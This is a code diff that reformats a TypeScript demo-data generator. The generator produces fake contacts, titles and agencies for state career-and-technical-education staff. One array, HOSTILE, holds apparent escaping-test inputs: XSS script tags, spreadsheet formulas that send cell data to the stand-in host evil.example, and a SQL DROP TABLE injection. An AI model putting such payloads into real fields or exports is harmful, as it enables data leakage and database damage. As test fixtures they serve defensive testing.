@@ -20,28 +20,161 @@ export interface DemoOptions {
 }
 
 const FIRST = [
-  'Maria', 'James', 'Aisha', 'Wei', 'Carlos', 'Priya', 'Michael', 'Fatima', 'David', 'Sofia', 'Kwame', 'Emily',
-  'Hiroshi', 'Olivia', 'Jamal', 'Chloé', 'Mateo', 'Grace', 'Tyrone', 'Ananya', 'Robert', 'Zoë', 'Luis', 'Hannah',
-  'Nguyễn', 'Keisha', 'Thomas', 'Leilani', 'Samuel', 'Ingrid', 'Diego', 'Rachel', 'Mohammed', 'Kathleen', 'Andrés',
-  'Tanisha', 'Brian', 'Mei', 'José', 'Laura', 'Darnell', 'Siobhan', 'Peter', 'Yolanda', 'Ahmed', 'Jennifer', 'Kai',
-  'Rosa', 'William', 'Amara', 'Eric', 'Noelani', 'Patricia', 'Raj', 'Deborah', 'Tomás', 'Lakshmi', 'Marcus',
-  'Bethany', 'Juan Carlos', 'Mary-Kate', 'Seo-yeon', 'Björn', 'Ngozi', 'Christopher', 'Ayesha',
+  'Maria',
+  'James',
+  'Aisha',
+  'Wei',
+  'Carlos',
+  'Priya',
+  'Michael',
+  'Fatima',
+  'David',
+  'Sofia',
+  'Kwame',
+  'Emily',
+  'Hiroshi',
+  'Olivia',
+  'Jamal',
+  'Chloé',
+  'Mateo',
+  'Grace',
+  'Tyrone',
+  'Ananya',
+  'Robert',
+  'Zoë',
+  'Luis',
+  'Hannah',
+  'Nguyễn',
+  'Keisha',
+  'Thomas',
+  'Leilani',
+  'Samuel',
+  'Ingrid',
+  'Diego',
+  'Rachel',
+  'Mohammed',
+  'Kathleen',
+  'Andrés',
+  'Tanisha',
+  'Brian',
+  'Mei',
+  'José',
+  'Laura',
+  'Darnell',
+  'Siobhan',
+  'Peter',
+  'Yolanda',
+  'Ahmed',
+  'Jennifer',
+  'Kai',
+  'Rosa',
+  'William',
+  'Amara',
+  'Eric',
+  'Noelani',
+  'Patricia',
+  'Raj',
+  'Deborah',
+  'Tomás',
+  'Lakshmi',
+  'Marcus',
+  'Bethany',
+  'Juan Carlos',
+  'Mary-Kate',
+  'Seo-yeon',
+  'Björn',
+  'Ngozi',
+  'Christopher',
+  'Ayesha',
 ];
 const LAST = [
-  'Garcia', 'Johnson', 'Okafor', 'Chen', 'Rodriguez', 'Patel', 'Smith', 'Hassan', 'Williams', 'Rossi', 'Mensah',
-  'Brown', 'Tanaka', 'Davis', 'Washington', 'Dubois', 'Hernández', 'Kim', 'Jackson', 'Iyer', 'Miller', "O'Brien",
-  'Lopez', 'Nguyen', 'Wilson', 'Kahananui', 'Anderson', 'Larsen', 'Martinez', 'Cohen', 'Ali', 'Murphy', 'Sánchez',
-  'Thompson', 'Wang', 'Ramírez', 'White', 'Harris', 'Begay', 'Clark', 'Lewis', 'Robinson', 'Walker', 'Young',
-  'Müller-Schmidt', 'Allen', 'King', 'Wright', 'Scott', 'Torres', 'Hill', 'Flores', 'Green', 'Adams', 'Baker',
-  'Nakamura', 'Van der Berg', 'McAllister', 'St. James', 'Oyelaran', 'Fernández', 'Mahmoud', 'Kowalski',
+  'Garcia',
+  'Johnson',
+  'Okafor',
+  'Chen',
+  'Rodriguez',
+  'Patel',
+  'Smith',
+  'Hassan',
+  'Williams',
+  'Rossi',
+  'Mensah',
+  'Brown',
+  'Tanaka',
+  'Davis',
+  'Washington',
+  'Dubois',
+  'Hernández',
+  'Kim',
+  'Jackson',
+  'Iyer',
+  'Miller',
+  "O'Brien",
+  'Lopez',
+  'Nguyen',
+  'Wilson',
+  'Kahananui',
+  'Anderson',
+  'Larsen',
+  'Martinez',
+  'Cohen',
+  'Ali',
+  'Murphy',
+  'Sánchez',
+  'Thompson',
+  'Wang',
+  'Ramírez',
+  'White',
+  'Harris',
+  'Begay',
+  'Clark',
+  'Lewis',
+  'Robinson',
+  'Walker',
+  'Young',
+  'Müller-Schmidt',
+  'Allen',
+  'King',
+  'Wright',
+  'Scott',
+  'Torres',
+  'Hill',
+  'Flores',
+  'Green',
+  'Adams',
+  'Baker',
+  'Nakamura',
+  'Van der Berg',
+  'McAllister',
+  'St. James',
+  'Oyelaran',
+  'Fernández',
+  'Mahmoud',
+  'Kowalski',
 ];
 const TITLES = [
-  'State CTE Director', 'Assistant State Director of CTE', 'CTE Program Specialist', 'Perkins Coordinator',
-  'Data Analyst', 'Director of Accountability', 'Education Program Consultant', 'Career Pathways Coordinator',
-  'Director of Secondary CTE', 'Postsecondary CTE Specialist', 'Research Analyst', 'Workforce Development Manager',
-  'Policy Advisor', 'Education Specialist, Work-Based Learning', 'Program Manager – Learner Engagement',
-  'Director, College & Career Readiness', 'Senior Data Manager', 'CLNA Lead', 'Dual Enrollment Coordinator',
-  'Equity & Access Specialist', 'Associate Commissioner', 'Grants Manager',
+  'State CTE Director',
+  'Assistant State Director of CTE',
+  'CTE Program Specialist',
+  'Perkins Coordinator',
+  'Data Analyst',
+  'Director of Accountability',
+  'Education Program Consultant',
+  'Career Pathways Coordinator',
+  'Director of Secondary CTE',
+  'Postsecondary CTE Specialist',
+  'Research Analyst',
+  'Workforce Development Manager',
+  'Policy Advisor',
+  'Education Specialist, Work-Based Learning',
+  'Program Manager – Learner Engagement',
+  'Director, College & Career Readiness',
+  'Senior Data Manager',
+  'CLNA Lead',
+  'Dual Enrollment Coordinator',
+  'Equity & Access Specialist',
+  'Associate Commissioner',
+  'Grants Manager',
 ];
 const PERSONAL = ['gmail.com', 'yahoo.com', 'outlook.com', 'hotmail.com', 'icloud.com', 'aol.com', 'protonmail.com'];
 const HOPES = [
@@ -68,20 +201,29 @@ function stateDomain(state: string): string {
 function agencyFor(state: string, type: string, rnd: () => number): string {
   if (type.startsWith('Lead')) {
     return pick(rnd, [
-      `${state} Department of Education`, `${state} Department of Career and Technical Education`,
-      `${state} State Board for Career and Technical Education`, `Office of CTE, ${state} Department of Education`,
+      `${state} Department of Education`,
+      `${state} Department of Career and Technical Education`,
+      `${state} State Board for Career and Technical Education`,
+      `Office of CTE, ${state} Department of Education`,
     ]);
   }
   if (type.startsWith('State-level')) {
     return pick(rnd, [
-      `${state} Community College System`, `${state} Department of Labor & Workforce Development`,
-      `${state} Higher Education Commission`, `${state} Workforce Development Board`,
-      `${state} Board of Regents`, `${state} Department of Commerce`,
+      `${state} Community College System`,
+      `${state} Department of Labor & Workforce Development`,
+      `${state} Higher Education Commission`,
+      `${state} Workforce Development Board`,
+      `${state} Board of Regents`,
+      `${state} Department of Commerce`,
     ]);
   }
   return pick(rnd, [
-    `${state} Regional Education Service Center`, 'Lincoln County School District', 'Self-employed consultant',
-    `${state} Association of CTE Educators`, 'Riverside Technical College', 'Nonprofit: Pathways Forward',
+    `${state} Regional Education Service Center`,
+    'Lincoln County School District',
+    'Self-employed consultant',
+    `${state} Association of CTE Educators`,
+    'Riverside Technical College',
+    'Nonprofit: Pathways Forward',
   ]);
 }
 
@@ -90,7 +232,7 @@ const HOSTILE: { first: string; last: string; agency?: string; title?: string; h
   { first: '<img src=x onerror=alert(1)>', last: 'Tester', hope: '<script>alert("sidebar")</script>' },
   { first: 'Hyper', last: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', agency: '=IMPORTXML("http://evil.example","//a")' },
   { first: '+SUM(1,2)', last: '-Minus', agency: '@Agency', title: '=1+1' },
-  { first: 'Robert\'); DROP TABLE Students;--', last: '"Bobby" Tables', hope: 'Line one\r\nLine two, with ; semicolons \\ and "quotes"' },
+  { first: "Robert'); DROP TABLE Students;--", last: '"Bobby" Tables', hope: 'Line one\r\nLine two, with ; semicolons \\ and "quotes"' },
   { first: 'Zalgo', last: '</textarea></script><b>bold</b>', agency: '${7*7} {{7*7}}' },
 ];
 
@@ -187,15 +329,18 @@ function workingHours(t: number): number {
   const weekday = new Date(dayStart).getUTCDay();
   if (weekday === 6) dayStart += 2 * day;
   if (weekday === 0) dayStart += day;
-  const minute = 8 * 60 + Math.floor(t / 60000) % 600;
+  const minute = 8 * 60 + (Math.floor(t / 60000) % 600);
   return dayStart + minute * 60000 + edt;
 }
 
 function ascii(s: string): string {
-  return s.normalize('NFD').replace(/[\u0300-\u036f]/g, '').toLowerCase().replace(/[^a-z0-9]+/g, '');
+  return s
+    .normalize('NFD')
+    .replace(/[\u0300-\u036f]/g, '')
+    .toLowerCase()
+    .replace(/[^a-z0-9]+/g, '');
 }
 
 function pick<T>(rnd: () => number, list: readonly T[]): T {
   return list[Math.floor(rnd() * list.length)];
 }
-
